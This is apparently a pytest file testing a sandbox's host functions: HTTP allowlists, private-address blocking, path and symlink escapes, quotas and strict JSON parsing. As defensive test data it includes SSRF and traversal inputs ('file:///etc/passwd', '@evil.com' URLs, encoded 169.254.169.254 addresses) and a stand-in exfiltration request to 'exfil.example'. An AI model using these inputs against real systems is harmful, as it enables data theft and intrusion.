"""Host functions: permission checks, files inside the data folder, HTTP against a real server."""

from __future__ import annotations

import http.server
import json
import os
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from symbiont.errors import CapabilityError, SandboxError
from symbiont.host import HostDenied, HostError, read_file
from symbiont.sandbox.base import Limits, Permissions, parse_input
from symbiont.sandbox.hostfns import (
    MAX_RECORDED_CALLS,
    HostFunctions,
    _text_codec,
    address_is_public,
    normalise_path,
)


class _Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        path = self.path
        if path == "/hello":
            self._send(200, b"hello world")
        elif path.startswith("/hop/"):
            n = int(path.rsplit("/", 1)[1])
            self.send_response(302)
            self.send_header("Location", f"/hop/{n - 1}" if n > 0 else "/hello")
            self.send_header("Content-Length", "0")
            self.end_headers()
        elif path == "/big":
            self._send(200, b"x" * 5000)
        elif path == "/slow":
            time.sleep(1.5)
            self._send(200, b"late")
        elif path == "/host":
            self._send(200, self.headers.get("Host", "").encode())
        else:
            self._send(404, b"")

    def _send(self, code: int, body: bytes) -> None:
        self.send_response(code)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def call(h: HostFunctions, name: str, **args: Any) -> dict[str, Any]:
    return json.loads(h.dispatch(name, json.dumps(args)))


def err_kind(reply: dict[str, Any]) -> str | None:
    return reply.get("error", {}).get("kind")


LOCAL = Permissions(http_allow=("127.0.0.1",), allow_private_network=True)


# -- http ------------------------------------------------------------------------------------


def test_http_get_allowed_loopback_when_private_allowed(port: int) -> None:
    h = HostFunctions(LOCAL, Limits())
    assert call(h, "http_get", url=f"http://127.0.0.1:{port}/hello") == {"ok": "hello world"}
    assert h.calls[0].allowed and h.calls[0].name == "http_get"


def test_http_get_refuses_loopback_without_private_permission(port: int) -> None:
    h = HostFunctions(Permissions(http_allow=("127.0.0.1",)), Limits())
    reply = call(h, "http_get", url=f"http://127.0.0.1:{port}/hello")
    assert err_kind(reply) == "denied" and "127.0.0.1" in reply["error"]["message"]
    assert h.calls[0].allowed is False


@pytest.mark.parametrize(
    "addr, public",
    [
        ("8.8.8.8", True),
        ("127.0.0.1", False),
        ("10.1.2.3", False),
        ("192.168.0.1", False),
        ("169.254.169.254", False),
        ("100.64.0.1", False),
        ("224.0.0.1", False),
        ("0.0.0.0", False),
        ("::1", False),
        ("fe80::1", False),
        ("::ffff:127.0.0.1", False),
        ("2606:4700::1111", True),
        ("2002:7f00:1::1", False),  # 6to4 of 127.0.0.1
        ("2002:808:808::1", True),  # 6to4 of 8.8.8.8
        ("64:ff9b::7f00:1", False),  # NAT64 of 127.0.0.1
        ("64:ff9b::a9fe:a9fe", False),  # NAT64 of 169.254.169.254
        ("64:ff9b::808:808", True),  # NAT64 of 8.8.8.8
        ("64:ff9b:1::808:808", False),  # local-use NAT64: cannot be checked
        ("2001:0:4136:e378:8000:63bf:80ff:fffe", False),  # Teredo, client 127.0.0.1
        ("::127.0.0.1", False),  # IPv4-compatible
    ],
)
def test_address_classification(addr: str, public: bool) -> None:
    assert address_is_public(addr) is public


def test_http_get_not_on_allowlist_and_bad_schemes() -> None:
    h = HostFunctions(Permissions(http_allow=("api.example.org",)), Limits())
    assert err_kind(call(h, "http_get", url="https://example.com/")) == "denied"
    assert err_kind(call(h, "http_get", url="ftp://api.example.org/x")) == "denied"
    assert err_kind(call(h, "http_get", url="file:///etc/passwd")) == "denied"
    assert err_kind(call(h, "http_get", url="https://api.example.org@evil.com/")) == "denied"
    assert err_kind(call(h, "http_get", url="https://api.example.org.evil.com/")) == "denied"


def test_http_url_prefix_allowlist(port: int) -> None:
    perms = Permissions(http_allow=(f"http://127.0.0.1:{port}/hel",), allow_private_network=True)
    h = HostFunctions(perms, Limits())
    assert err_kind(call(h, "http_get", url=f"http://127.0.0.1:{port}/hello")) == "denied"
    perms = Permissions(http_allow=(f"http://127.0.0.1:{port}/hello",), allow_private_network=True)
    h = HostFunctions(perms, Limits())
    assert call(h, "http_get", url=f"http://127.0.0.1:{port}/hello") == {"ok": "hello world"}


def test_http_redirects_followed_and_capped(port: int) -> None:
    h = HostFunctions(LOCAL, Limits())
    assert call(h, "http_get", url=f"http://127.0.0.1:{port}/hop/4") == {"ok": "hello world"}
    reply = call(h, "http_get", url=f"http://127.0.0.1:{port}/hop/5")
    assert err_kind(reply) == "io" and "redirects" in reply["error"]["message"]


def test_http_sends_the_host_name_while_connecting_to_the_checked_address(port: int) -> None:
    perms = Permissions(http_allow=("localhost",), allow_private_network=True)
    h = HostFunctions(perms, Limits())
    assert call(h, "http_get", url=f"http://localhost:{port}/host") == {"ok": f"localhost:{port}"}


def test_http_size_and_time_bounded(port: int) -> None:
    h = HostFunctions(LOCAL, Limits(max_http_bytes=1000, http_timeout_s=0.5))
    assert err_kind(call(h, "http_get", url=f"http://127.0.0.1:{port}/big")) == "too_large"
    started = time.monotonic()
    assert err_kind(call(h, "http_get", url=f"http://127.0.0.1:{port}/slow")) == "timeout"
    assert time.monotonic() - started < 1.4


def test_http_404_is_not_found(port: int) -> None:
    h = HostFunctions(LOCAL, Limits())
    assert err_kind(call(h, "http_get", url=f"http://127.0.0.1:{port}/nope")) == "not_found"


# -- files -----------------------------------------------------------------------------------


@pytest.fixture
def data(tmp_path: Path) -> Path:
    d = tmp_path / "data"
    d.mkdir()
    (d / "a.txt").write_text("alpha")
    (tmp_path / "secret.txt").write_text("secret")
    return d


def rw(data: Path, **limits: Any) -> HostFunctions:
    perms = Permissions(data_dir=data, read_files=True, write_files=True)
    return HostFunctions(perms, Limits(**limits))


def test_read_write_list_roundtrip(data: Path) -> None:
    h = rw(data)
    assert call(h, "read_file", path="a.txt") == {"ok": "alpha"}
    assert call(h, "write_file", path="sub/dir/b.txt", content="béta") == {"ok": None}
    assert (data / "sub" / "dir" / "b.txt").read_text(encoding="utf-8") == "béta"
    assert call(h, "list_files") == {"ok": ["a.txt", "sub"]}
    assert call(h, "list_files", path="sub/dir") == {"ok": ["b.txt"]}
    assert call(h, "read_file", path="missing.txt")["error"]["kind"] == "not_found"


def test_write_is_atomic_replace_and_leaves_no_temp_files(data: Path) -> None:
    h = rw(data)
    inode_before = os.stat(data / "a.txt").st_ino
    assert call(h, "write_file", path="a.txt", content="new") == {"ok": None}
    assert (data / "a.txt").read_text() == "new"
    assert os.stat(data / "a.txt").st_ino != inode_before  # renamed over, not rewritten
    assert sorted(os.listdir(data)) == ["a.txt"]


@pytest.mark.parametrize(
    "path", ["../secret.txt", "/etc/passwd", "a/../../secret.txt", "a\x00b", "~root/x"]
)
def test_paths_leaving_the_folder_are_denied(data: Path, path: str) -> None:
    h = rw(data)
    assert err_kind(call(h, "read_file", path=path)) == "denied"
    assert err_kind(call(h, "write_file", path=path, content="x")) == "denied"
    assert not h.calls[-1].allowed


def test_symlinks_leaving_the_folder_are_denied_inside_ones_work(data: Path) -> None:
    (data / "out").symlink_to(data.parent / "secret.txt")
    (data / "outdir").symlink_to(data.parent)
    (data / "in").symlink_to(data / "a.txt")
    h = rw(data)
    assert err_kind(call(h, "read_file", path="out")) == "denied"
    assert err_kind(call(h, "read_file", path="outdir/secret.txt")) == "denied"
    assert err_kind(call(h, "write_file", path="outdir/new.txt", content="x")) == "denied"
    assert err_kind(call(h, "list_files", path="outdir")) == "denied"
    assert call(h, "read_file", path="in") == {"ok": "alpha"}
    assert not (data.parent / "new.txt").exists()


def test_sizes_bounded(data: Path) -> None:
    h = rw(data, max_file_bytes=10)
    assert err_kind(call(h, "write_file", path="big.txt", content="x" * 11)) == "too_large"
    assert not (data / "big.txt").exists()
    (data / "big2.txt").write_text("y" * 11)
    assert err_kind(call(h, "read_file", path="big2.txt")) == "too_large"


def test_permission_flags(data: Path) -> None:
    ro = HostFunctions(Permissions(data_dir=data, read_files=True), Limits())
    assert call(ro, "read_file", path="a.txt") == {"ok": "alpha"}
    assert err_kind(call(ro, "write_file", path="x.txt", content="x")) == "denied"
    none = HostFunctions(Permissions(), Limits())
    assert err_kind(call(none, "read_file", path="a.txt")) == "denied"
    wo = HostFunctions(Permissions(data_dir=data, write_files=True), Limits())
    assert err_kind(call(wo, "read_file", path="a.txt")) == "denied"


def test_fifo_is_not_read(data: Path) -> None:
    os.mkfifo(data / "pipe")
    h = rw(data)
    assert err_kind(call(h, "read_file", path="pipe")) == "denied"  # and it did not block


# -- log, now_ms, bad calls ------------------------------------------------------------------


def test_log_is_captured_and_capped() -> None:
    h = HostFunctions(Permissions(), Limits(max_log_bytes=20))
    assert call(h, "log", message="first") == {"ok": None}
    assert err_kind(call(h, "log", message="x" * 30)) == "too_large"
    assert h.logs == ["first"] and h.log_overflow


def test_now_ms_and_invalid_calls() -> None:
    h = HostFunctions(Permissions(), Limits())
    now = call(h, "now_ms")["ok"]
    assert abs(now - time.time() * 1000) < 5000
    assert err_kind(call(h, "format_disk")) == "invalid"
    assert err_kind(json.loads(h.dispatch("log", "not json"))) == "invalid"
    assert err_kind(call(h, "read_file", path=3)) in ("invalid", "denied")


# -- the real symbiont.host module -----------------------------------------------------------


def test_host_module_outside_a_sandbox_raises_clearly() -> None:
    with pytest.raises(SandboxError, match="outside a sandbox"):
        read_file("a.txt")


def test_host_error_classes() -> None:
    assert issubclass(HostDenied, PermissionError) and issubclass(HostError, OSError)


# -- under the call's deadline, caps, quotas, the record ---------------------------------------


@pytest.mark.parametrize(
    ("raw", "normal"),
    [
        ("/public/../admin", "/admin"),
        ("/public/%2e%2e/admin", "/admin"),
        ("/public/%2E./admin", "/admin"),
        ("/a/./b/../c/", "/a/c/"),
        ("/a/b/..", "/a/"),
        ("/..", "/"),
        ("/%7Euser/%41", "/~user/A"),
        ("/x%2fy", "/x%2Fy"),
    ],
)
def test_normalise_path(raw: str, normal: str) -> None:
    assert normalise_path(raw) == normal


def test_prefix_allowlist_sees_the_normalised_path_and_sends_it(port: int) -> None:
    perms = Permissions(http_allow=(f"http://127.0.0.1:{port}/hop/",), allow_private_network=True)
    h = HostFunctions(perms, Limits())
    for path in ("/hop/../hello", "/hop/%2e%2e/hello", "/hop/..%2fhello", "/hop/..;/hello"):
        assert err_kind(call(h, "http_get", url=f"http://127.0.0.1:{port}{path}")) == "denied"
    # inside the prefix: allowed, requested in normal form (/hop/0 redirects to /hello,
    # which is outside the prefix, so the redirect is refused)
    reply = call(h, "http_get", url=f"http://127.0.0.1:{port}/hop/x/../0")
    assert err_kind(reply) == "denied"
    assert h.calls[-1].name == "http_get"


def test_the_call_deadline_bounds_every_host_function(data: Path, port: int) -> None:
    h = HostFunctions(
        Permissions(
            data_dir=data,
            read_files=True,
            write_files=True,
            http_allow=("127.0.0.1",),
            allow_private_network=True,
        ),
        Limits(http_timeout_s=30),
    )
    h.deadline = time.monotonic() + 0.4
    started = time.monotonic()
    assert err_kind(call(h, "http_get", url=f"http://127.0.0.1:{port}/slow")) == "timeout"
    assert time.monotonic() - started < 1.0
    h.deadline = time.monotonic() - 0.01
    for name, args in (
        ("read_file", {"path": "a.txt"}),
        ("write_file", {"path": "b", "content": "x"}),
    ):
        assert err_kind(call(h, name, **args)) == "timeout"
    assert not (data / "b").exists()


def test_path_caps_before_the_filesystem(data: Path) -> None:
    h = rw(data)
    started = time.monotonic()
    for path in ("a/" * 300_000, "/".join(["d"] * 33) + "/x", "n" * 256):
        reply = call(h, "read_file", path=path)
        assert err_kind(reply) == "invalid", reply
        assert err_kind(call(h, "write_file", path=path, content="x")) == "invalid"
    assert time.monotonic() - started < 0.5
    assert call(h, "write_file", path="/".join(["d"] * 31) + "/x", content="deep") == {"ok": None}


def test_write_quotas_count_what_is_there(data: Path) -> None:
    perms = Permissions(
        data_dir=data, read_files=True, write_files=True, max_data_bytes=1000, max_data_entries=4
    )
    h = HostFunctions(perms, Limits())  # a.txt (5 bytes) is there already
    assert call(h, "write_file", path="b.txt", content="x" * 900) == {"ok": None}
    reply = call(h, "write_file", path="c.txt", content="x" * 200)
    assert err_kind(reply) == "too_large" and "max_data_bytes" in reply["error"]["message"]
    assert call(h, "write_file", path="b.txt", content="y" * 990) == {"ok": None}  # replaces
    assert call(h, "write_file", path="c.txt", content="") == {"ok": None}
    assert call(h, "write_file", path="d.txt", content="") == {"ok": None}
    reply = call(h, "write_file", path="e.txt", content="")
    assert err_kind(reply) == "too_large" and "max_data_entries" in reply["error"]["message"]
    # a new call measures the folder again
    again = HostFunctions(perms, Limits())
    assert err_kind(call(again, "write_file", path="sub/f.txt", content="")) == "too_large"


def test_hard_links_are_refused(data: Path, tmp_path: Path) -> None:
    os.link(tmp_path / "secret.txt", data / "hl.txt")
    h = rw(data)
    assert err_kind(call(h, "read_file", path="hl.txt")) == "denied"
    assert err_kind(call(h, "write_file", path="hl.txt", content="pwned")) == "denied"
    assert (tmp_path / "secret.txt").read_text() == "secret"


def test_response_codecs_are_allowlisted() -> None:
    assert _text_codec(None) == "utf-8"
    assert _text_codec("ISO-8859-1") in ("iso8859-1", "latin-1")
    assert _text_codec("windows-1252") == "cp1252"
    assert _text_codec("x-made-up") == "utf-8"
    for name in ("punycode", "idna", "unicode_escape", "rot13", "base64", "zlib", "utf-7"):
        with pytest.raises(Exception, match="charset"):
            _text_codec(name)


def test_the_record_folds_harmless_calls_but_keeps_every_http_get_and_write(data: Path) -> None:
    h = HostFunctions(Permissions(data_dir=data, write_files=True), Limits())
    for _ in range(MAX_RECORDED_CALLS + 7):
        h.dispatch("now_ms", "{}")
    call(h, "http_get", url="https://exfil.example/?d=1")
    call(h, "write_file", path="x.txt", content="x")
    names = [c.name for c in h.calls]
    assert names[-3:] == ["http_get", "write_file", "folded"]
    assert h.calls[-1].args == "calls=7" and h.folded_calls == 7
    assert "exfil.example" in h.calls[-3].args


@pytest.mark.parametrize(
    "text",
    ["[" * 100_000 + "]" * 100_000, '{"a": NaN}', "[Infinity]", "[1e400]", '{"k": 1, "k": 2}'],
)
def test_parse_input_is_strict_and_never_recurses(text: str) -> None:
    with pytest.raises(CapabilityError, match="not valid JSON"):
        parse_input(text)


def test_parse_input_accepts_ordinary_json() -> None:
    assert parse_input('{"a": [1, 2.5, "[[{"], "b": {"c": null}}') == {
        "a": [1, 2.5, "[[{"],
        "b": {"c": None},
    }
    assert parse_input("[" * 100 + "]" * 100) is not None
